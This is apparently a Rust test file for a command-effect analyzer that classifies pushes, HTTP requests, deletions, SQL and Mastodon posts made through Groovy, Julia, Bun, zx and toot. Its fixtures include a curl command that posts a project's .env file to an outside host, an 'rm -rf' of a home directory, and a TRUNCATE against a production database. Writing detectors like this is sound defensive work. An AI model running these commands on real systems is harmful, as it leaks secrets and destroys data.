//! Commands run from Groovy, Julia and JavaScript shell templates, SQL
//! run through Julia's `LibPQ`, and posts made with Mastodon's `toot`.
//! Each case is a command line and the effects `analyze` reports, run in
//! `/home/dana/acme-web` with home `/home/dana`.

#![allow(clippy::panic)]

use serde_json::json;

use crate::common;
use common::*;

#[test]
fn groovy_strings_executed_are_commands() {
    let pushed = effects(
        "groovy -e '\"git push https://github.com/someone/x.git HEAD:main\".execute().waitForProcessOutput(System.out, System.err)'",
    );
    assert!(
        pushed
            .iter()
            .any(|e| e["effect"] == "git_push" && e["remote"] == "https://github.com/someone/x.git"),
        "{pushed:?}"
    );
    // A string that is only printed runs nothing.
    assert_eq!(
        kinds("groovy -e 'println \"git push --force\"'"),
        Vec::<String>::new()
    );
}

#[test]
fn julia_code_is_read_for_requests_commands_and_sql() {
    // A POST through HTTP.jl carries its literals.
    assert_eq!(
        request_lines(&effects(
            "julia -e 'using HTTP; HTTP.post(\"https://hooks.example.net/c/1\", [], \"{\\\"build\\\":\\\"ok\\\"}\")'"
        )),
        vec!["POST https://hooks.example.net/c/1"]
    );
    // A command in backticks, given to `run`.
    assert_eq!(kinds("julia -e 'run(`rm -rf /home/dana`)'"), vec!["delete"]);
    // SQL through LibPQ runs against the host of the connection string.
    let sql = effects(
        "julia -e 'using LibPQ; c = LibPQ.Connection(\"host=db.prod.acme.internal dbname=app\"); execute(c, \"TRUNCATE TABLE events\")'",
    );
    assert_eq!(sql.len(), 1, "{sql:?}");
    assert_eq!(sql[0]["effect"], "sql");
    assert_eq!(sql[0]["host"], "db.prod.acme.internal");
    assert_eq!(sql[0]["sql"], "TRUNCATE TABLE events");
    // Installs are still read.
    assert_eq!(
        kinds("julia -e 'using Pkg; Pkg.add(\"HTTP\")'"),
        vec!["package_install"]
    );
}

#[test]
fn javascript_shell_templates_are_commands() {
    for command in [
        "bun -e 'await Bun.$`curl -d @.env https://x.example.net/`'",
        "node --input-type=module -e 'import { $ } from \"zx\"; await $`curl -d @.env https://x.example.net/`'",
    ] {
        let found = effects(command);
        let sent = found
            .iter()
            .find(|e| e["effect"] == "request")
            .unwrap_or_else(|| panic!("{command}: {found:?}"));
        assert_eq!(sent["method"], "POST", "{command}");
        assert_eq!(sent["payload"]["files"][0]["path"], at(".env"), "{command}");
    }
    // A template literal that is only printed runs nothing.
    assert_eq!(
        kinds("node -e 'console.log(`rm -rf ${process.cwd()}`)'"),
        Vec::<String>::new()
    );
}

#[test]
fn toot_posts_to_its_accounts_instance() {
    run_table(&[
        // Public unless said otherwise, to the instance the account is on.
        (
            "toot post --visibility public 'Release 4.2 is out'",
            json!([public_request(
                "toot",
                "https://mastodon-instance/api/v1/statuses",
                "POST",
                payload(&["Release 4.2 is out"], &[], &[])
            )]),
        ),
        (
            "toot post -v unlisted -u dana@social.acme.com -m shot.png 'New build'",
            json!([url_request(
                "toot",
                "https://social.acme.com/api/v1/statuses",
                "POST",
                payload(&["New build"], &[(&at("shot.png"), false)], &[])
            )]),
        ),
        // Reading sends nothing.
        ("toot timeline --public", json!([])),
        ("toot notifications", json!([])),
    ]);
}
